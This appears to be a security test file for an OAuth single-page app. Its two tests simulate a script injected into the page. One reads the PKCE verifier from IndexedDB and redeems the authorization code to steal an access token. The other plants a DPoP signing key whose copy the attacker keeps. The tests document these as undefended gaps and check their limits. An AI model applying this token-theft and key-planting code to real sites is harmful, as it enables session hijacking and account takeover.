import { expect, modes, openTab, people, signIn, signOut, test } from "./support/attack.js";

declare global {
  /** Where the thief's script leaves what it got: on a server of its own in real life. */
  var stolen: unknown;
}

test("worker: a script that is there while the user comes back can redeem the code in the page's place: this is not defended against", async ({
  context,
  server,
  tap,
}) => {
  await context.addInitScript(() => {
    const query = new URLSearchParams(location.search);
    if (!query.has("code")) return;
    const native = globalThis.fetch;
    const verifier = new Promise<string>((resolve) => {
      const opening = indexedDB.open("handover-oauth");
      opening.onsuccess = () => {
        const reading = opening.result.transaction("waiting").objectStore("waiting").getAll();
        reading.onsuccess = () => resolve(reading.result.at(-1).verifier);
      };
    });
    const redeemed = verifier.then((code_verifier) =>
      native("/oauth/token", {
        method: "POST",
        body: new URLSearchParams({
          ...{ grant_type: "authorization_code", client_id: "handover-spa", code_verifier },
          ...{ code: query.get("code") ?? "", redirect_uri: `${location.origin}/oauth-app/` },
        }),
      }),
    );
    globalThis.stolen = redeemed.then((reply) => reply.json());
    // The page, meanwhile, waits for its configuration.
    globalThis.fetch = async (...given) => {
      await globalThis.stolen;
      return native(...given);
    };
  });
  const tab = await openTab(context, modes.worker.path);
  await tab.signInButton.click();
  await tab.username.fill(people.ada.username);
  await tab.password.fill(people.ada.password);
  await tab.signInButton.click();
  await expect(tab.page.getByText(/^The sign-in did not succeed/)).toBeVisible();
  const { access_token } = (await tab.page.evaluate(() => globalThis.stolen)) as { access_token: string };
  expect([...tap.secrets]).toContain(access_token);
  expect((await server.metrics()).codeExchanges).toBe(1);
  // It does not go unseen, here: a code is for one use, and when it comes again what it was redeemed for is revoked.
  const use = await fetch(`${tap.origin}/oauth/userinfo`, {
    headers: { Authorization: `Bearer ${access_token}` },
  });
  expect(use.status).toBe(401);
});

test("a script that was there before the sign-in can plant a key for DPoP of which it has a copy: this is not defended against", async ({
  context,
  tap,
}) => {
  const path = `${modes.memory.path}&dpop=1`;
  const name = "oauth-memory-dpop";
  const before = await openTab(context, path);
  const copy = await before.page.evaluate(async (name) => {
    const ecdsa = { name: "ECDSA", namedCurve: "P-256" };
    const made = await crypto.subtle.generateKey(ecdsa, true, ["sign", "verify"]);
    const jwk = await crypto.subtle.exportKey("jwk", made.privateKey);
    // The one that is planted cannot be exported, as it should be.
    const privateKey = await crypto.subtle.importKey("jwk", jwk, ecdsa, false, ["sign"]);
    const { publicKey } = made;
    const { crv, kty, x, y } = jwk;
    const name7638 = new TextEncoder().encode(JSON.stringify({ crv, kty, x, y }));
    const bytes = new Uint8Array(await crypto.subtle.digest("SHA-256", name7638));
    const id = btoa(String.fromCharCode(...bytes))
      .replaceAll("+", "-")
      .replaceAll("/", "_")
      .replaceAll("=", "");
    await new Promise<void>((resolve) => {
      const opening = indexedDB.open(`sojourn.${name}.dpop`);
      opening.onupgradeneeded = () => opening.result.createObjectStore("session");
      opening.onsuccess = () => {
        const writing = opening.result.transaction("session", "readwrite");
        writing.objectStore("session").put({ id, pair: { privateKey, publicKey } }, "record");
        writing.oncomplete = () => {
          opening.result.close();
          resolve();
        };
      };
    });
    return { x, y };
  }, name);
  await before.page.close();

  const tab = await openTab(context, path);
  await signIn(tab, "memory");
  const proofs = tap.requests.flatMap(({ headers }) => headers.dpop ?? []);
  expect(proofs.length).toBeGreaterThan(0);
  const header = JSON.parse(Buffer.from(String(proofs[0]).split(".")[0] as string, "base64url").toString());
  expect(header.jwk, "the thief's").toMatchObject(copy);

  // The end of that session is the end of the key.
  await signOut(tab);
  await signIn(tab, "memory");
  const last = tap.requests.flatMap(({ headers }) => headers.dpop ?? []).at(-1);
  const fresh = JSON.parse(Buffer.from(String(last).split(".")[0] as string, "base64url").toString());
  expect(fresh.jwk.x).not.toBe(copy.x);
});
